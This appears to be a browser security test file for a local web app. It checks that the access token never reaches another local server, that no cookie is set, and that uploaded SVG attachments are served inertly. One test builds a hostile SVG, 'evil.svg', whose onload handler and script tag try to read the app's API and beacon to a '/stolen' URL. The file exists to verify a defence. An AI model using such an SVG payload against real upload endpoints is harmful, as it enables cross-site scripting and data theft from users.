/**
 * The browser side of issue 11's attack trial, in headless Chromium against `omnifusion serve`:
 * the access token never reaches another server on the same host (browsers share cookies across
 * ports, so it must not be a cookie), the page keeps working across a reload without it in the
 * URL, and an SVG with script, uploaded and then opened by URL, runs nothing and reads nothing.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { openAppSession, type AppSession } from '../helpers/app-session.js';
import { call } from '../helpers/serve.js';

/** Another program's server on 127.0.0.1: it records every request it gets. */
async function startBystander(): Promise<{ server: HttpServer; origin: string; seen: { url: string; headers: IncomingHttpHeaders }[] }> {
  const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    res.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
    res.end('<!doctype html><title>bystander</title><p>another app');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

describe('serve in a browser: the token stays home, attachments run nothing', () => {
  let app: AppSession;
  let bystander: Awaited<ReturnType<typeof startBystander>>;
  before(async () => {
    app = await openAppSession('security', { viewport: { width: 1000, height: 700 } });
    bystander = await startBystander();
  });
  after(async () => {
    await app?.close();
    await new Promise((resolve) => bystander?.server.close(resolve));
  });

  const ready = () =>
    app.page.waitForFunction(() => document.querySelector<HTMLElement>('[data-testid=model-status]')?.dataset.state === 'ready', null, { timeout: 60_000 });

  test('the app works from the printed URL and after a reload, and sets no cookie', async () => {
    await app.page.goto(app.server.url);
    await ready();
    assert.equal(new URL(app.page.url()).searchParams.has('token'), false, 'the token left the address bar');
    await app.page.reload();
    await ready();
    assert.deepEqual(await app.context.cookies(), [], 'no cookie of any kind');
  });

  test('a second server on another loopback port receives no token in any header', async () => {
    // The app page tries to reach the other server (its CSP blocks both), then the user visits it:
    // a cookie of 127.0.0.1 would go with that visit whatever its port.
    await app.page.evaluate(async (origin) => {
      await fetch(`${origin}/from-app`, { mode: 'no-cors', credentials: 'include' }).catch(() => undefined);
      await new Promise((resolve) => {
        const img = new Image();
        img.onload = img.onerror = resolve;
        img.src = `${origin}/img-from-app`;
      });
    }, bystander.origin);
    const other = await app.context.newPage();
    await other.goto(`${bystander.origin}/visit`);
    await other.close();
    assert.ok(bystander.seen.some((s) => s.url === '/visit'), `the bystander was reached (${bystander.seen.map((s) => s.url).join(', ')})`);
    for (const { url, headers } of bystander.seen) {
      const all = JSON.stringify(headers);
      assert.equal(all.includes(app.server.token), false, `${url}: the token is in a header: ${all}`);
      assert.equal(headers.cookie, undefined, `${url}: a cookie was sent: ${headers.cookie}`);
    }
  });

  test('an SVG with script, uploaded then opened by its URL, runs nothing and reads nothing', async () => {
    const before = bystander.seen.length;
    const beacon = `${bystander.origin}/stolen`;
    const svg =
      `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" onload="fetch('${beacon}?onload')">` +
      `<script>fetch('/api/call/conversations.list',{method:'POST'}).finally(()=>fetch('${beacon}?script'));new Image().src='${beacon}?img'</script>` +
      `<rect width="64" height="48" fill="#2a6"/></svg>`;
    const added = await call<{ url: string; mime: string }>(app.server, 'attachments.add', { name: 'evil.svg', bytes: new TextEncoder().encode(svg) });
    assert.equal(added.mime, 'image/png');
    const opened = await app.context.newPage();
    const errors: string[] = [];
    opened.on('pageerror', (e) => errors.push(e.message));
    const response = await opened.goto(`${app.server.origin}${added.url}`);
    assert.equal(response?.status(), 200);
    assert.equal(response?.headers()['content-type'], 'image/png');
    assert.equal(await opened.evaluate(() => document.contentType), 'image/png', 'the browser shows a picture, not a document');
    await opened.waitForTimeout(1000); // time for any script to have called out
    await opened.close();
    assert.deepEqual(bystander.seen.slice(before).map((s) => s.url), [], 'nothing called out');
    assert.deepEqual(errors, []);
  });
});
